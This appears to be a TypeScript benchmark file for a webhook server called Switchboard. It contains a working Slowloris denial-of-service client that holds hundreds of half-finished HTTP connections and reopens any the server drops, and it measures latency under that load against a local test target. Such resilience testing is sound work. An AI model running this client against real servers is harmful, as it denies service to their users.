import { mkdtempSync, rmSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { LoadResult, LoadSpec } from './load';
import { runJsonChild, SERVER_SCRIPT, startTarget } from './procs';
import { SWITCHBOARD, switchboardProvider, type ScenarioContext } from './scenarios';

/**
 * Slow clients against an HTTP server: `count` connections that each start a request and then
 * send one more header byte every `dripMs`, never finishing (slowloris). A connection the server
 * closes is opened again at once, so `count` stay held for as long as the attack runs, as an
 * attacker's would. `body: true` instead sends complete headers (with the given path, e.g. a
 * webhook route with its right secret) and then drips the body.
 */
export interface SlowlorisOptions {
  port: number;
  host?: string;
  count: number;
  dripMs?: number;
  path?: string;
  body?: boolean;
}

export class Slowloris {
  private readonly sockets = new Set<Socket>();
  private stopped = false;
  private timer?: NodeJS.Timeout;
  /** Connections the server closed (each replaced). */
  closedByServer = 0;
  /** Responses seen (Node answers 408 when it times a request out). */
  readonly statuses: number[] = [];
  opened = 0;

  constructor(private readonly opts: SlowlorisOptions) {}

  start(): this {
    for (let i = 0; i < this.opts.count; i++) this.open();
    this.timer = setInterval(() => {
      for (const s of this.sockets) if (s.writable) s.write(this.opts.body ? 'x' : 'a');
    }, this.opts.dripMs ?? 1000);
    return this;
  }

  get held(): number {
    return this.sockets.size;
  }

  private open(): void {
    if (this.stopped) return;
    this.opened++;
    const s = connect(this.opts.port, this.opts.host ?? '127.0.0.1');
    this.sockets.add(s);
    s.setNoDelay(true);
    s.on('error', () => undefined);
    s.on('connect', () => {
      const path = this.opts.path ?? '/healthz';
      if (this.opts.body) s.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{`);
      else s.write(`POST ${path} HTTP/1.1\r\nHost: x\r\nX-Slow: `);
    });
    s.on('data', (d) => {
      const m = /^HTTP\/1\.1 (\d{3})/.exec(d.toString('latin1'));
      if (m) this.statuses.push(Number(m[1]));
    });
    s.on('close', () => {
      this.sockets.delete(s);
      if (this.stopped) return;
      this.closedByServer++;
      setTimeout(() => this.open(), 10);
    });
  }

  stop(): void {
    this.stopped = true;
    clearInterval(this.timer);
    for (const s of this.sockets) s.destroy();
  }
}

/**
 * `npm run bench` extra `slowloris`: Switchboard as shipped (SQLite, the echo bot, its default
 * HTTP timeouts) under an open-loop webhook load, alone, then while `count` slowloris connections
 * are held for the whole run, then alone again; the ack p99 of each, side by side.
 */
export async function runSlowloris(ctx: ScenarioContext, out: (s: string) => void) {
  const count = Number(process.env.BENCH_SLOWLORIS_CONNECTIONS ?? 300);
  const seconds = Number(process.env.BENCH_SLOWLORIS_SECONDS ?? 60);
  const rate = Number(process.env.BENCH_SLOWLORIS_RATE ?? 200);
  const provider = switchboardProvider();
  const dataDir = mkdtempSync(join(tmpdir(), 'switchboard-bench-slowloris-'));
  out('');
  out(
    `Slowloris: ${rate} webhooks/s for ${seconds} s, alone, with ${count} slow connections held (headers dripped a byte a second, reopened when dropped), then alone again…`,
  );
  const env = { ...SWITCHBOARD.switchboardEnv(ctx, provider), DATA_DIR: dataDir };
  const target = await startTarget(SERVER_SCRIPT, env, join(ctx.runDir, 'slowloris.log'), ctx.nodeArgs);
  const port = Number(new URL(target.url).port);
  let seq = 1;
  const load = async () => {
    const spec: LoadSpec = {
      url: `${target.url}/webhooks/${provider}/${SWITCHBOARD.secret}`,
      headers: provider === 'telegram' ? { 'x-telegram-bot-api-secret-token': SWITCHBOARD.secret } : {},
      body: provider,
      connections: 40,
      warmupS: 2,
      durationS: seconds,
      rate,
      chats: 1000,
      seqStart: seq,
    };
    const r = await runJsonChild<LoadResult>('bench/load.ts', 'BENCH_LOAD', spec);
    seq += r.sent + 1;
    return r;
  };
  try {
    // Alone, under attack, alone again: on a shared machine the two unloaded runs show how much
    // of a difference is the machine's.
    const before = await load();
    const attack = new Slowloris({ port, count }).start();
    let under: LoadResult;
    try {
      under = await load();
    } finally {
      attack.stop();
    }
    const after = await load();
    const line = (r: LoadResult) =>
      `ack p50 ${r.ackMs.p50.toFixed(2)} ms, p99 ${r.ackMs.p99.toFixed(2)} ms, max ${r.ackMs.max.toFixed(1)} ms, ${r.rps.toFixed(0)} req/s, ${r.non2xx} non-2xx${r.non2xx > 0 ? ` ${JSON.stringify(r.non2xxStatuses)}` : ''}, ${r.socketErrors} socket errors`;
    out(`  unloaded, before: ${line(before)}`);
    out(`  with ${count} slow connections held: ${line(under)}; the server dropped ${attack.closedByServer} of them (each reopened)`);
    out(`  unloaded, after: ${line(after)}`);
    return { connections: count, seconds, rate, unloaded: [before, after], underSlowloris: under, droppedByServer: attack.closedByServer };
  } finally {
    await target.stop();
    rmSync(dataDir, { recursive: true, force: true });
  }
}
